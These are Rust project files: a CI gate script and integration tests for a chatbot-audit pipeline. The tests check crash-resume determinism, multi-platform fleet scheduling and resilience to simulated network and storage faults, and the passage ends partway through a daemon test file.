#!/bin/sh
# Tier-1 gate: build, tests, lints. Run before every push.
set -eux

cargo build --release
cargo test -q
cargo clippy --all-targets -- -D warnings
cargo bench --no-run
cargo doc --no-deps -q
