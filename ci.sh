#!/bin/sh
# Tier-1 gate: build, tests, lints. Run before every push.
set -eux

cargo fmt --all --check
cargo build --release
cargo test -q --workspace
cargo test -q --test resume_determinism
cargo test -q --test trace_determinism
cargo test -q --test sched_determinism
cargo test -q --test daemon_determinism
cargo test -q --test incremental_determinism
cargo test -q --test platform_determinism
cargo test -q --test oplog_determinism
cargo test -q -p oplog
cargo clippy --all-targets -- -D warnings
cargo bench --no-run
RUSTDOCFLAGS="-D warnings" cargo doc --no-deps -q
# The deprecated batch drain() must keep steering callers at the
# always-on daemon loop in its rendered deprecation note.
grep -q 'superseded by the always-on loop' target/doc/sched/struct.Scheduler.html
grep -q 'run_until' target/doc/sched/struct.Scheduler.html
