//! Crash-equivalence of the resumable pipeline.
//!
//! The audit store's contract: a run killed after ANY number of durable
//! frames, then resumed in a fresh process against a fresh world, produces
//! a canonical report byte-identical to a run that was never interrupted —
//! and a fresh run over a warm artifact pack re-analyzes nothing.

use chatbot_audit::{AuditConfig, AuditPipeline, ResumeError, StoreConfig};
use std::sync::Arc;
use store::MemBackend;
use synth::{build_ecosystem, Ecosystem, EcosystemConfig};

const BOTS: usize = 120;

fn world(seed: u64) -> Ecosystem {
    build_ecosystem(&EcosystemConfig::test_scale(BOTS, seed))
}

fn config(workers: usize) -> AuditConfig {
    let mut config = AuditConfig {
        honeypot_sample: 15,
        ..AuditConfig::default()
    };
    config.workers = workers;
    config.crawl.workers = workers;
    config.honeypot.workers = workers;
    config
}

/// One uninterrupted resumable run on a throwaway store.
fn uninterrupted(seed: u64) -> String {
    let eco = world(seed);
    AuditPipeline::new(config(1))
        .run_resumable(&eco, &StoreConfig::in_memory(), seed)
        .expect("uninterrupted run completes")
        .report
        .canonical_json()
}

/// Kill a run after `kill_after` journal frames, then resume it on the
/// same backend (fresh world = fresh process) and return the final report.
fn crash_and_resume(seed: u64, kill_after: u64, workers: usize) -> String {
    let backend = Arc::new(MemBackend::new());
    let store = StoreConfig {
        backend: backend.clone(),
        resume: false,
        kill_after_frames: Some(kill_after),
    };
    let eco = world(seed);
    let err = AuditPipeline::new(config(workers))
        .run_resumable(&eco, &store, seed)
        .expect_err("armed kill switch must fire");
    match err {
        ResumeError::Interrupted { frames_written } => assert_eq!(frames_written, kill_after),
        other => panic!("expected interrupt, got {other}"),
    }

    let resumed = StoreConfig {
        backend,
        resume: true,
        kill_after_frames: None,
    };
    let eco = world(seed);
    AuditPipeline::new(config(workers))
        .run_resumable(&eco, &resumed, seed)
        .expect("resumed run completes")
        .report
        .canonical_json()
}

#[test]
fn resume_is_byte_identical_for_seed_2022() {
    let baseline = uninterrupted(2022);
    // Kill points span the stages: mid-crawl-units, mid-analysis, and just
    // before the completion marker.
    for kill_after in [2, 5, 40, 100] {
        assert_eq!(
            crash_and_resume(2022, kill_after, 1),
            baseline,
            "kill after {kill_after} frames diverged"
        );
    }
}

#[test]
fn resume_is_byte_identical_for_seed_7() {
    let baseline = uninterrupted(7);
    for kill_after in [3, 17, 77] {
        assert_eq!(
            crash_and_resume(7, kill_after, 1),
            baseline,
            "kill after {kill_after} frames diverged"
        );
    }
}

#[test]
fn resumable_run_matches_the_plain_pipeline() {
    let eco = world(2022);
    let plain = AuditPipeline::new(config(1))
        .run_full(&eco)
        .canonical_json();
    assert_eq!(
        uninterrupted(2022),
        plain,
        "store plumbing must not change the measurement"
    );
}

#[test]
fn journal_written_parallel_resumes_serial() {
    // The fingerprint excludes every workers knob: a journal written by a
    // 4-worker run must resume under a single-worker run, byte-identically.
    let baseline = uninterrupted(7);
    assert_eq!(
        crash_and_resume(7, 50, 4),
        baseline,
        "cross-worker-count resume diverged"
    );

    let backend = Arc::new(MemBackend::new());
    let eco = world(7);
    let parallel = StoreConfig {
        backend: backend.clone(),
        resume: false,
        kill_after_frames: Some(60),
    };
    AuditPipeline::new(config(4))
        .run_resumable(&eco, &parallel, 7)
        .expect_err("killed");
    let eco = world(7);
    let serial = StoreConfig {
        backend,
        resume: true,
        kill_after_frames: None,
    };
    let outcome = AuditPipeline::new(config(1))
        .run_resumable(&eco, &serial, 7)
        .expect("resumes");
    assert_eq!(outcome.report.canonical_json(), baseline);
    assert!(outcome.store_stats.frames_replayed >= 60);
}

#[test]
fn crash_storm_converges_to_the_same_bytes() {
    // Crash every 25 frames, over and over, resuming each time. The run
    // must make monotone progress and finish with identical bytes.
    let baseline = uninterrupted(2022);
    let backend = Arc::new(MemBackend::new());
    let mut attempts = 0;
    let report = loop {
        attempts += 1;
        assert!(attempts <= 40, "crash storm failed to converge");
        let store = StoreConfig {
            backend: backend.clone(),
            resume: attempts > 1,
            kill_after_frames: Some(25),
        };
        let eco = world(2022);
        match AuditPipeline::new(config(1)).run_resumable(&eco, &store, 2022) {
            Ok(outcome) => break outcome.report.canonical_json(),
            Err(ResumeError::Interrupted { .. }) => continue,
            Err(other) => panic!("unexpected failure: {other}"),
        }
    };
    assert!(
        attempts > 3,
        "storm must actually crash a few times (got {attempts})"
    );
    assert_eq!(report, baseline);
}

#[test]
fn warm_artifact_pack_skips_every_reanalysis() {
    let backend = Arc::new(MemBackend::new());
    let store = StoreConfig {
        backend: backend.clone(),
        resume: false,
        kill_after_frames: None,
    };
    let eco = world(2022);
    let cold = AuditPipeline::new(config(1))
        .run_resumable(&eco, &store, 2022)
        .unwrap();
    assert_eq!(cold.store_stats.artifact_misses as usize, BOTS);
    assert_eq!(cold.store_stats.artifact_hits, 0);

    // Second run, fresh journal, same backend: the pack is warm.
    let eco = world(2022);
    let warm = AuditPipeline::new(config(1))
        .run_resumable(&eco, &store, 2022)
        .unwrap();
    assert_eq!(
        warm.store_stats.artifact_hits as usize, BOTS,
        "every analysis served from pack"
    );
    assert_eq!(
        warm.store_stats.artifact_misses, 0,
        "zero re-analyses on a warm pack"
    );
    assert_eq!(
        warm.store_stats.frames_replayed, 0,
        "non-resume run starts a fresh journal"
    );
    assert_eq!(warm.report.canonical_json(), cold.report.canonical_json());
}
