//! The heterogeneous-fleet regression tier.
//!
//! One fleet service multiplexing Discord and Telegram tenants must keep
//! every determinism promise the single-platform tiers pin:
//!
//! 1. A mixed-platform, multi-epoch fleet run produces byte-identical
//!    canonical reports (each carrying its platform tag), deltas, and
//!    `sched.*` trace at any worker count (pinned at 1 vs 4 for seeds
//!    2022 and 7).
//! 2. A Telegram tenant's epoch-N+1 re-audit rides the same warm path as
//!    a Discord tenant's: conditional fetches against `tdirectory.sim`,
//!    artifact hits for every undrifted bot, and a report byte-identical
//!    to a cold audit of the same epoch.
//! 3. Crawl counters namespace per platform (`crawl.discord.*` /
//!    `crawl.telegram.*`) without perturbing the legacy aggregate names.

use chatbot_audit::{platform_breakdown, Audit, AuditJob, FleetConfig, FleetService, PlatformKind};
use obs::{JsonRecorder, Obs};
use sched::JobSpec;
use std::sync::Arc;
use store::MemBackend;
use synth::DriftConfig;

const BOTS: usize = 50;

fn job(kind: PlatformKind, seed: u64, epoch: u32) -> AuditJob {
    Audit::builder()
        .platform(kind)
        .scale(BOTS)
        .seed(seed)
        .honeypot_sample(6)
        .site_defenses(false)
        .drift(DriftConfig::default())
        .epoch(epoch)
        .into_job()
        .expect("valid job")
}

/// 2 Discord + 2 Telegram tenants × 2 epochs through one service; dump
/// every observable the fleet emits.
fn fleet_dump(seed: u64, workers: usize) -> (String, String) {
    let recorder = Arc::new(JsonRecorder::new());
    let clock = netsim::VirtualClock::new();
    let obs = Obs::with_recorder(recorder.clone(), Arc::new(clock.clone()));
    let service = FleetService::with_obs(
        FleetConfig {
            workers,
            ..FleetConfig::default()
        },
        Arc::new(MemBackend::new()),
        clock,
        obs,
    );

    let tenants = [
        ("disco-a", PlatformKind::Discord),
        ("tgram-a", PlatformKind::Telegram),
        ("disco-b", PlatformKind::Discord),
        ("tgram-b", PlatformKind::Telegram),
    ];
    let mut dump = String::new();
    for epoch in 0..2u32 {
        for (tenant, kind) in tenants {
            service
                .submit(JobSpec::new(tenant), job(kind, seed, epoch))
                .expect("queue has room");
            service
                .clock()
                .advance(netsim::SimDuration::from_millis(25));
        }
        let outcomes = service.run();
        for outcome in &outcomes {
            let report = outcome.report.as_ref().expect("audit completes");
            assert_eq!(
                report.platform, outcome.platform,
                "report tag must match the job's platform"
            );
            dump.push_str(&format!(
                "tenant={} platform={} epoch={} wait={} hits={} misses={}\n",
                outcome.tenant,
                outcome.platform,
                outcome.epoch,
                outcome.wait_ms,
                outcome.artifact_hits,
                outcome.artifact_misses,
            ));
            dump.push_str(&serde_json::to_string(report).expect("report serializes"));
            dump.push('\n');
            if let Some(delta) = &outcome.delta {
                assert_eq!(delta.platform, outcome.platform);
                dump.push_str(&serde_json::to_string(delta).expect("delta serializes"));
                dump.push('\n');
            }
        }
        dump.push_str(
            &serde_json::to_string(&platform_breakdown(&outcomes)).expect("breakdown serializes"),
        );
        dump.push('\n');
    }
    (dump, recorder.canonical_trace())
}

#[test]
fn mixed_fleet_outputs_are_worker_count_independent_for_seed_2022() {
    let (serial_dump, serial_trace) = fleet_dump(2022, 1);
    assert!(
        serial_dump.contains("\"platform\":\"Discord\"")
            && serial_dump.contains("\"platform\":\"Telegram\""),
        "both platform tags must appear in the canonical reports"
    );
    let (parallel_dump, parallel_trace) = fleet_dump(2022, 4);
    assert_eq!(parallel_dump, serial_dump, "workers=4 outputs diverged");
    assert_eq!(parallel_trace, serial_trace, "workers=4 trace diverged");
}

#[test]
fn mixed_fleet_outputs_are_worker_count_independent_for_seed_7() {
    let (serial_dump, serial_trace) = fleet_dump(7, 1);
    let (parallel_dump, parallel_trace) = fleet_dump(7, 4);
    assert_eq!(parallel_dump, serial_dump, "workers=4 outputs diverged");
    assert_eq!(parallel_trace, serial_trace, "workers=4 trace diverged");
}

#[test]
fn telegram_reaudit_rides_the_warm_incremental_path() {
    let seed = 2022;
    let service = FleetService::new(FleetConfig::default());
    service
        .submit(JobSpec::new("tgram"), job(PlatformKind::Telegram, seed, 0))
        .expect("submit epoch 0");
    let cold = service.run();
    assert_eq!(cold[0].platform, PlatformKind::Telegram);
    assert_eq!(cold[0].artifact_hits, 0, "first audit has no warm pack");
    assert!(cold[0].artifact_misses as usize >= BOTS);

    service
        .submit(JobSpec::new("tgram"), job(PlatformKind::Telegram, seed, 1))
        .expect("submit epoch 1");
    let warm = service.run();
    let outcome = &warm[0];
    assert!(
        outcome.artifact_hits > 0,
        "undrifted Telegram bots must come from the warm pack"
    );
    assert!(
        (outcome.artifact_misses as usize) < BOTS,
        "a re-audit must not recompute the whole population"
    );
    let delta = outcome.delta.as_ref().expect("epoch 1 diffs epoch 0");
    assert_eq!(delta.platform, PlatformKind::Telegram);
    assert!(!delta.is_empty(), "default drift moves something");

    // Byte-identical to a cold audit of the same epoch on a fresh service.
    let fresh = FleetService::new(FleetConfig::default());
    fresh
        .submit(JobSpec::new("other"), job(PlatformKind::Telegram, seed, 1))
        .expect("submit cold epoch 1");
    let cold_epoch1 = fresh.run().remove(0).report.expect("cold audit completes");
    let warm_report = outcome.report.as_ref().expect("warm audit completes");
    assert_eq!(
        serde_json::to_string(warm_report).unwrap(),
        serde_json::to_string(&cold_epoch1).unwrap(),
        "incremental Telegram re-audit diverged from a cold audit"
    );
}

#[test]
fn crawl_counters_namespace_per_platform_across_one_fleet() {
    let clock = netsim::VirtualClock::new();
    let obs = Obs::disabled();
    let service = FleetService::with_obs(
        FleetConfig::default(),
        Arc::new(MemBackend::new()),
        clock,
        obs,
    );
    service
        .submit(JobSpec::new("disco"), job(PlatformKind::Discord, 2022, 0))
        .unwrap();
    service
        .submit(JobSpec::new("tgram"), job(PlatformKind::Telegram, 2022, 0))
        .unwrap();
    for outcome in service.run() {
        let report = outcome.report.expect("audit completes");
        // Each job reports through its own Audit obs handle; the per-job
        // registry splits by platform while the aggregate keeps its name.
        assert_eq!(report.bots.len(), BOTS);
    }
    // Build two audits with private registries to read the counters back.
    for kind in PlatformKind::ALL {
        let obs = Obs::disabled();
        let audit = Audit::builder()
            .platform(kind)
            .scale(20)
            .seed(5)
            .honeypot_sample(2)
            .site_defenses(false)
            .obs(obs.clone())
            .build()
            .unwrap();
        audit.run().expect("audit completes");
        let scoped = obs.counter_value(&format!("crawl.{}.bots", kind.as_str()));
        assert_eq!(scoped, 20, "crawl.{}.bots", kind.as_str());
        assert_eq!(
            obs.counter_value("crawl.bots"),
            scoped,
            "aggregate crawl.bots must mirror the scoped counter"
        );
        for other in PlatformKind::ALL {
            if other != kind {
                assert_eq!(
                    obs.counter_value(&format!("crawl.{}.bots", other.as_str())),
                    0,
                    "foreign namespace crawl.{}.* must stay silent",
                    other.as_str()
                );
            }
        }
    }
}
