//! Resilience under faults: a flaky network AND flaky storage.
//!
//! The real top.gg occasionally 500s and times out; the paper's scraper
//! "handle[s] and react[s] to exceptions" (§3). The first half of this
//! file remounts the listing site behind a noisy fault plan and verifies
//! the polite crawler still achieves near-complete coverage — while the
//! single-attempt impolite crawler visibly loses listings. The second half
//! points the same fault machinery at the audit store's backend: torn
//! appends, flipped bits, and short reads must never cost more than the
//! damaged frames themselves.

use botlist::LIST_HOST;
use chatbot_audit::{AuditConfig, AuditPipeline, ResumeError, StoreConfig};
use crawler::crawl::{crawl_listing, CrawlConfig};
use netsim::fault::{FaultPlan, FaultyBackend, StorageFaultPlan};
use netsim::latency::LatencyModel;
use std::sync::Arc;
use store::{Backend, Frame, Journal, MemBackend, JOURNAL_FILE};
use synth::{build_ecosystem, EcosystemConfig};

fn flaky_world(seed: u64) -> synth::Ecosystem {
    let eco = build_ecosystem(&EcosystemConfig::test_scale(300, seed));
    // Remount the same site behind background faults: ~2% of requests fail
    // one way or another.
    let site = eco.site.clone();
    eco.net.mount_with(
        LIST_HOST,
        site,
        LatencyModel::healthy(),
        FaultPlan {
            black_hole: 0.005,
            server_error: 0.01,
            refuse: 0.005,
            ..FaultPlan::default()
        },
    );
    eco
}

#[test]
fn polite_crawler_survives_a_flaky_site() {
    let eco = flaky_world(71);
    let (bots, stats) = crawl_listing(&eco.net, &CrawlConfig::default());
    // Retries absorb the background noise: coverage stays near-complete.
    let coverage = bots.len() as f64 / 300.0;
    assert!(
        coverage > 0.97,
        "coverage {coverage} (failures {})",
        stats.failures
    );
    // Partial-progress counters stay coherent even when listings are lost:
    // every crawled or failed detail page is accounted for, page traversal
    // actually happened, and the defensive walls were really paid for.
    assert_eq!(stats.bots, bots.len());
    assert!(
        stats.bots + stats.failures <= 300,
        "can't account for more bots than exist"
    );
    assert!(stats.pages > 0, "page traversal made progress");
    assert_eq!(
        stats.captchas_solved > 0,
        stats.captcha_spend_dollars > 0.0,
        "spend tracks solves"
    );
    assert!(
        stats.duration.as_millis() > 0,
        "virtual wall-clock advanced"
    );
}

#[test]
fn single_attempt_crawler_loses_listings_on_the_same_site() {
    let eco = flaky_world(71);
    let (bots_polite, _) = crawl_listing(&eco.net, &CrawlConfig::default());

    let eco2 = flaky_world(71);
    let (bots_rude, stats_rude) = crawl_listing(
        &eco2.net,
        &CrawlConfig {
            polite: false,
            ..CrawlConfig::default()
        },
    );

    // The impolite config makes single attempts; faults translate directly
    // into lost detail pages (or lost list pages → lost listings).
    assert!(
        bots_rude.len() < bots_polite.len() || stats_rude.failures > 0,
        "polite {} vs rude {} (rude failures {})",
        bots_polite.len(),
        bots_rude.len(),
        stats_rude.failures
    );
}

// ---------------------------------------------------------------------------
// Storage faults: the journal and pipeline against a crash-prone disk.
// ---------------------------------------------------------------------------

fn small_world(seed: u64) -> synth::Ecosystem {
    build_ecosystem(&EcosystemConfig::test_scale(40, seed))
}

fn small_config() -> AuditConfig {
    let mut config = AuditConfig {
        honeypot_sample: 8,
        ..AuditConfig::default()
    };
    config.workers = 1;
    config.crawl.workers = 1;
    config.honeypot.workers = 1;
    config
}

#[test]
fn torn_appends_lose_only_the_damaged_suffix() {
    // Write through storage that tears and bit-flips appends; reopening on
    // the clean inner backend must recover only frames that were actually
    // written, verbatim and in order — damage never fabricates or reorders.
    let inner = Arc::new(MemBackend::new());
    let faulty: Arc<dyn Backend> = Arc::new(FaultyBackend::new(
        inner.clone(),
        StorageFaultPlan::crashy(),
        0xdead,
    ));
    let (journal, _) = Journal::open(faulty, JOURNAL_FILE).unwrap();
    let written: Vec<Frame> = (0..60)
        .map(|i| Frame {
            kind: 0x0100,
            key: i,
            payload: vec![i as u8; 24],
        })
        .collect();
    for f in &written {
        journal.append(f.kind, f.key, f.payload.clone()).unwrap();
    }
    drop(journal);

    let (_, replay) = Journal::open(inner, JOURNAL_FILE).unwrap();
    assert!(
        replay.frames.len() < written.len(),
        "crashy plan must actually damage something"
    );
    // Every surviving frame is one that was written, in write order (a
    // zero-byte tear can drop a frame entirely; a partial tear ends replay).
    let mut remaining = written.iter();
    for f in &replay.frames {
        assert!(
            remaining.any(|w| w == f),
            "replayed frame {f:?} was never written"
        );
    }
}

#[test]
fn audit_converges_to_identical_bytes_on_crash_prone_storage() {
    // Crash every 15 frames on a disk that tears ~15% of appends. Durable
    // progress shrinks to the longest valid prefix on every reopen, but the
    // run must still converge to the uninterrupted run's exact bytes.
    let baseline = AuditPipeline::new(small_config())
        .run_resumable(&small_world(2022), &StoreConfig::in_memory(), 2022)
        .expect("clean run completes")
        .report
        .canonical_json();

    let faulty: Arc<dyn Backend> = Arc::new(FaultyBackend::new(
        Arc::new(MemBackend::new()),
        StorageFaultPlan::crashy(),
        9,
    ));
    let mut attempts = 0;
    let outcome = loop {
        attempts += 1;
        assert!(
            attempts <= 60,
            "crashy storage kept the run from converging"
        );
        let store = StoreConfig {
            backend: faulty.clone(),
            resume: attempts > 1,
            kill_after_frames: Some(15),
        };
        match AuditPipeline::new(small_config()).run_resumable(&small_world(2022), &store, 2022) {
            Ok(outcome) => break outcome,
            Err(ResumeError::Interrupted { .. }) => continue,
            Err(other) => panic!("unexpected failure: {other}"),
        }
    };
    assert!(attempts > 1, "kill switch must fire at least once");
    assert_eq!(outcome.report.canonical_json(), baseline);
    assert!(
        outcome.store_stats.frames_replayed > 0,
        "durable progress survived the tears"
    );
}

#[test]
fn short_reads_cost_rework_never_correctness() {
    // Complete a run on clean storage, then resume through a backend whose
    // every read comes up short: the journal and artifact pack both shrink
    // to a valid prefix, and the pipeline silently re-does the difference.
    let inner = Arc::new(MemBackend::new());
    let clean = StoreConfig {
        backend: inner.clone(),
        resume: false,
        kill_after_frames: None,
    };
    let full = AuditPipeline::new(small_config())
        .run_resumable(&small_world(7), &clean, 7)
        .expect("clean run completes");

    let short = StorageFaultPlan {
        torn_write: 0.0,
        bit_flip: 0.0,
        short_read: 1.0,
    };
    let faulty: Arc<dyn Backend> = Arc::new(FaultyBackend::new(inner, short, 3));
    let store = StoreConfig {
        backend: faulty,
        resume: true,
        kill_after_frames: None,
    };
    let redo = AuditPipeline::new(small_config())
        .run_resumable(&small_world(7), &store, 7)
        .expect("short reads must not fail the run");

    assert_eq!(redo.report.canonical_json(), full.report.canonical_json());
    assert!(
        redo.store_stats.frames_replayed < full.store_stats.frames_written,
        "a short read always loses at least the completion frame ({} vs {})",
        redo.store_stats.frames_replayed,
        full.store_stats.frames_written,
    );
}

#[test]
fn flaky_network_and_resume_compose() {
    // The two fault domains together: crash mid-run on a flaky *network*,
    // then resume against a fresh flaky world. Fault rolls draw from the
    // fabric's shared request stream, so a resumed run is NOT expected to
    // match an uninterrupted one — what must hold is that the crash+resume
    // sequence itself is deterministic: replay the identical schedule on a
    // second backend and the two final reports are byte-equal.
    let crash_and_resume = || {
        let backend: Arc<dyn Backend> = Arc::new(MemBackend::new());
        let killed = StoreConfig {
            backend: backend.clone(),
            resume: false,
            kill_after_frames: Some(30),
        };
        AuditPipeline::new(small_config())
            .run_resumable(&flaky_world(71), &killed, 71)
            .expect_err("kill switch fires");
        let resumed = StoreConfig {
            backend,
            resume: true,
            kill_after_frames: None,
        };
        AuditPipeline::new(small_config())
            .run_resumable(&flaky_world(71), &resumed, 71)
            .expect("resumes through network noise")
    };
    let first = crash_and_resume();
    let second = crash_and_resume();
    assert_eq!(
        first.report.canonical_json(),
        second.report.canonical_json()
    );
    assert!(
        first.store_stats.frames_replayed >= 30,
        "durable progress was reused"
    );
}
