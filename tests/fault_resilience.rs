//! Crawl resilience under a flaky listing site.
//!
//! The real top.gg occasionally 500s and times out; the paper's scraper
//! "handle[s] and react[s] to exceptions" (§3). This test remounts the
//! listing site behind a noisy fault plan and verifies the polite crawler
//! still achieves near-complete coverage — while the single-attempt
//! impolite crawler visibly loses listings.

use botlist::LIST_HOST;
use crawler::crawl::{crawl_listing, CrawlConfig};
use netsim::fault::FaultPlan;
use netsim::latency::LatencyModel;
use synth::{build_ecosystem, EcosystemConfig};

fn flaky_world(seed: u64) -> synth::Ecosystem {
    let eco = build_ecosystem(&EcosystemConfig::test_scale(300, seed));
    // Remount the same site behind background faults: ~2% of requests fail
    // one way or another.
    let site = eco.site.clone();
    eco.net.mount_with(
        LIST_HOST,
        site,
        LatencyModel::healthy(),
        FaultPlan { black_hole: 0.005, server_error: 0.01, refuse: 0.005, ..FaultPlan::default() },
    );
    eco
}

#[test]
fn polite_crawler_survives_a_flaky_site() {
    let eco = flaky_world(71);
    let (bots, stats) = crawl_listing(&eco.net, &CrawlConfig::default());
    // Retries absorb the background noise: coverage stays near-complete.
    let coverage = bots.len() as f64 / 300.0;
    assert!(coverage > 0.97, "coverage {coverage} (failures {})", stats.failures);
}

#[test]
fn single_attempt_crawler_loses_listings_on_the_same_site() {
    let eco = flaky_world(71);
    let (bots_polite, _) = crawl_listing(&eco.net, &CrawlConfig::default());

    let eco2 = flaky_world(71);
    let (bots_rude, stats_rude) =
        crawl_listing(&eco2.net, &CrawlConfig { polite: false, ..CrawlConfig::default() });

    // The impolite config makes single attempts; faults translate directly
    // into lost detail pages (or lost list pages → lost listings).
    assert!(
        bots_rude.len() < bots_polite.len() || stats_rude.failures > 0,
        "polite {} vs rude {} (rude failures {})",
        bots_polite.len(),
        bots_rude.len(),
        stats_rude.failures
    );
}
