//! The always-on fleet daemon regression tier.
//!
//! Four contracts, one layer up from `sched_determinism.rs`:
//!
//! 1. Under a bursty adversarial arrival plan — a flooding batch tenant,
//!    equal-weight steady tenants, interactive preemption pokes, and
//!    just-missable deadlines — every observable output of the daemon
//!    loop (outcomes, deltas, expiry reasons, the canonical `sched.*`
//!    trace *and* metrics) is byte-identical at 1 vs 4 workers, pinned
//!    for seeds 2022 and 7. The run must expire at least one deadline
//!    (with the typed count matching `sched.expired`) and force at least
//!    one cooperative preemption.
//! 2. Deficit round-robin keeps the service gap between the equal-weight
//!    backlogged tenants within the configured bound.
//! 3. Lane-inversion regression: a parked-then-resumed batch chain still
//!    honors same-tenant submission order when a same-tenant interactive
//!    job arrives mid-park — the epoch-1 re-audit must find the warm
//!    pack its parked predecessor was still writing.
//! 4. A sliced, parked-and-resumed batch audit produces a report
//!    byte-identical to the legacy unsliced batch drain.

use chatbot_audit::{
    Audit, AuditJob, ErrorKind, FleetConfig, FleetDaemon, FleetDaemonConfig, FleetService,
};
use netsim::{Clock, VirtualClock};
use obs::{JsonRecorder, Obs};
use sched::JobSpec;
use std::sync::Arc;
use store::MemBackend;
use synth::{adversarial_arrivals, ArrivalConfig, DriftConfig};

const BOTS: usize = 20;

fn job(seed: u64, epoch: u32) -> AuditJob {
    Audit::builder()
        .scale(BOTS)
        .seed(seed)
        .honeypot_sample(3)
        .site_defenses(false)
        .drift(DriftConfig::default())
        .epoch(epoch)
        .into_job()
        .expect("valid job")
}

fn daemon_config(workers: usize) -> FleetDaemonConfig {
    FleetDaemonConfig {
        workers,
        quantum: 1,
        batch_slice_frames: Some(6),
        tick_ms: 10,
        ..FleetDaemonConfig::default()
    }
}

/// Drive one daemon through the adversarial plan and dump every
/// observable: outcome stream (reports, typed expiries, deltas, hit
/// counters), the canonical `sched.*` span trace, and the canonical
/// `sched.*` metrics.
fn daemon_dump(seed: u64, workers: usize) -> (String, String, String) {
    let recorder = Arc::new(JsonRecorder::new());
    let clock = VirtualClock::new();
    let obs = Obs::with_recorder(recorder.clone(), Arc::new(clock.clone()));
    let daemon = FleetDaemon::with_obs(
        daemon_config(workers),
        Arc::new(MemBackend::new()),
        clock,
        obs,
    );

    let plan = adversarial_arrivals(&ArrivalConfig {
        seed,
        rounds: 3,
        ..ArrivalConfig::default()
    });
    for arrival in &plan {
        daemon.run_until(arrival.at_ms);
        let mut spec = JobSpec::builder(arrival.tenant.as_str())
            .lane_named(arrival.lane)
            .weight(arrival.weight);
        if let Some(deadline) = arrival.deadline_ms {
            spec = spec.deadline_ms(deadline);
        }
        let spec = spec.build().expect("plan produces valid specs");
        daemon
            .submit(spec, job(seed, arrival.epoch))
            .expect("plan fits the queue");
    }
    // Settle everything: the flooder's backlog needs many ticks (each
    // job is sliced and the tenant chain earns one slot per tick).
    let horizon = plan.last().expect("plan is non-empty").at_ms + 4_000;
    daemon.run_until(horizon);
    assert_eq!(daemon.queued(), 0, "horizon must drain the backlog");

    let outcomes = daemon.poll_outcomes();
    let mut expired = 0u64;
    let mut dump = String::new();
    for outcome in outcomes {
        dump.push_str(&format!(
            "id={} tenant={} epoch={} wait={} hits={} misses={} ",
            outcome.id,
            outcome.tenant,
            outcome.epoch,
            outcome.wait_ms,
            outcome.artifact_hits,
            outcome.artifact_misses,
        ));
        match &outcome.report {
            Ok(report) => {
                dump.push_str(&serde_json::to_string(report).expect("report serializes"));
            }
            Err(e) => {
                if e.kind() == ErrorKind::Expired {
                    expired += 1;
                }
                dump.push_str(&format!("error[{}]: {e}", e.kind()));
            }
        }
        dump.push('\n');
        if let Some(delta) = &outcome.delta {
            dump.push_str(&serde_json::to_string(delta).expect("delta serializes"));
            dump.push('\n');
        }
    }

    assert!(expired >= 1, "the plan must expire at least one deadline");
    assert_eq!(
        daemon.obs().counter_value("sched.expired"),
        expired,
        "typed expiry outcomes must match the sched.expired counter"
    );
    assert!(
        daemon.obs().counter_value("sched.parked") >= 1,
        "the flooder's sliced batch audits must park at least once"
    );
    // All plan tenants carry weight 1, so the DRR service-gap bound for
    // backlogged equal-weight tenants is quantum × weight = quantum.
    let bound = u64::from(daemon.config().quantum);
    assert!(
        daemon.fairness_gap() <= bound,
        "equal-weight service gap {} exceeded the DRR bound {bound}",
        daemon.fairness_gap()
    );

    let metrics = daemon.obs().canonical_metrics("sched.");
    (dump, recorder.canonical_trace(), metrics)
}

#[test]
fn daemon_outputs_are_worker_count_independent_for_seed_2022() {
    let (serial_dump, serial_trace, serial_metrics) = daemon_dump(2022, 1);
    assert!(
        serial_trace.contains("\"name\":\"sched.tick\""),
        "trace must contain sched.tick spans"
    );
    assert!(
        serial_trace.contains("\"name\":\"sched.job\""),
        "trace must contain keyed sched.job spans"
    );
    assert!(
        serial_metrics.contains("sched.expired=") && serial_metrics.contains("sched.parked="),
        "canonical metrics must cover expiry and preemption:\n{serial_metrics}"
    );
    let (parallel_dump, parallel_trace, parallel_metrics) = daemon_dump(2022, 4);
    assert_eq!(parallel_dump, serial_dump, "workers=4 outputs diverged");
    assert_eq!(parallel_trace, serial_trace, "workers=4 trace diverged");
    assert_eq!(
        parallel_metrics, serial_metrics,
        "workers=4 metrics diverged"
    );
}

#[test]
fn daemon_outputs_are_worker_count_independent_for_seed_7() {
    let (serial_dump, serial_trace, serial_metrics) = daemon_dump(7, 1);
    let (parallel_dump, parallel_trace, parallel_metrics) = daemon_dump(7, 4);
    assert_eq!(parallel_dump, serial_dump, "workers=4 outputs diverged");
    assert_eq!(parallel_trace, serial_trace, "workers=4 trace diverged");
    assert_eq!(
        parallel_metrics, serial_metrics,
        "workers=4 metrics diverged"
    );
}

#[test]
fn parked_batch_blocks_same_tenant_interactive_submitted_mid_park() {
    for workers in [1, 4] {
        let daemon = FleetDaemon::new(daemon_config(workers));
        let batch_spec = JobSpec::builder("acme")
            .lane_named("batch")
            .build()
            .expect("valid spec");
        let baseline = daemon.submit(batch_spec, job(2022, 0)).expect("admitted");

        // One tick: the batch audit runs its first slice and parks.
        assert!(daemon.tick().is_empty(), "first slice must not settle");
        assert!(daemon.resolve(baseline).is_none());
        assert_eq!(daemon.queued(), 1, "the parked job stays queued");

        // Mid-park, the same tenant submits an interactive re-audit of
        // the next epoch. Its lane would win any dispatch sort — but the
        // same-tenant contract must hold: the parked epoch-0 audit
        // finishes first, so the epoch-1 job finds a warm pack and a
        // previous report to diff.
        let followup = daemon
            .submit(
                JobSpec::builder("acme")
                    .lane_named("interactive")
                    .build()
                    .expect("valid spec"),
                job(2022, 1),
            )
            .expect("admitted");

        let horizon = daemon.clock().now_millis() + 2_000;
        let settled = daemon.run_until(horizon);
        assert_eq!(
            settled,
            vec![baseline, followup],
            "workers={workers}: parked batch must settle before the \
             interactive job submitted mid-park"
        );
        let first = daemon.resolve(baseline).expect("baseline settled");
        assert!(first.report.is_ok());
        assert!(first.delta.is_none());
        let second = daemon.resolve(followup).expect("follow-up settled");
        assert!(second.report.is_ok());
        assert!(
            second.delta.is_some(),
            "workers={workers}: the re-audit must diff the parked \
             predecessor's report"
        );
        assert!(
            second.artifact_hits > 0,
            "workers={workers}: the re-audit must hit the warm pack the \
             parked audit wrote"
        );
    }
}

#[test]
fn sliced_batch_audit_matches_legacy_unsliced_drain_byte_for_byte() {
    // Legacy reference: the batch facade, no slicing, no expiry.
    let service = FleetService::new(FleetConfig::default());
    service
        .submit(JobSpec::new("acme"), job(2022, 0))
        .expect("admitted");
    let reference = service
        .run()
        .remove(0)
        .report
        .expect("legacy audit completes");

